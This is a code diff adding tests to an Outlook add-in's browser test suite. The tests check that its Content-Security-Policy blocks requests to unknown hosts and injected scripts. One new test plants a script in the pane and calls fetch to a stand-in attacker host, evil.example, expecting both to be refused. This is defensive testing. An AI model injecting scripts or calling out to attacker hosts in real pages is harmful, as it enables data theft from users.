@@ -30,6 +30,10 @@ let onSend: RunningSimulator;
 let outlook: Outlook;
 /** What the Content-Security-Policy forbade. */
 const violations: string[] = [];
+/** What was asked of others than this machine and those from whom Office.js comes. */
+const foreign: string[] = [];
+const known =
+  /^(?:https:\/\/(?:localhost(?::\d+)?|appsforoffice\.microsoft\.com|ajax\.aspnetcdn\.com)\/|blob:|data:|about:)/;
 
 beforeAll(async () => {
   const ports = [await freePort(), await freePort()];
@@ -37,6 +41,9 @@ beforeAll(async () => {
   [browser, site] = await Promise.all([launch(), packagedSite(policy, origins, 'tools/yubisashi/')]);
   const prepare: NonNullable<RunningSimulator['prepare']> = async (context) => {
     const forbidden = await playMicrosoft(context);
+    context.on('request', (request) => {
+      if (!known.test(request.url())) foreign.push(request.url());
+    });
     context.on('close', () => violations.push(...forbidden));
   };
   const addin = site.base;
@@ -50,6 +57,7 @@ afterAll(async () => {
 afterEach(async () => {
   await outlook?.close();
   expect(violations).toEqual([]);
+  expect(foreign).toEqual([]);
 });
 
 test('doctor has nothing to report of it', async () => {
@@ -149,4 +157,25 @@ test('looking into files keeps to the Content-Security-Policy', async () => {
   await checklist.body.getByText('見積.csv').first().waitFor();
   await checklist.confirm();
   await outlook.waitForSent(1);
+});
+
+test('a script that gets into a page is not run and asks nobody, and these tests would see it', async () => {
+  outlook = await Outlook.open(browser, smartAlerts, { profile: 'mac' });
+  const mail = await outlook.openDraft(external);
+  await mail.runCommand('YubisashiPaneButton');
+  await new ChecklistPage(mail.pane).names();
+  const ran = await mail.pane.locator('body').evaluate(async (body) => {
+    const script = body.ownerDocument.createElement('script');
+    script.textContent = 'document.documentElement.dataset.planted = "ran"';
+    body.append(script);
+    const told = await fetch('https://evil.example/').then(
+      () => 'told',
+      () => 'refused',
+    );
+    return [body.ownerDocument.documentElement.dataset.planted ?? 'not run', told];
+  });
+  expect(ran).toEqual(['not run', 'refused']);
+  await outlook.close();
+  expect(violations.length).toBeGreaterThanOrEqual(2);
+  violations.length = 0;
 });
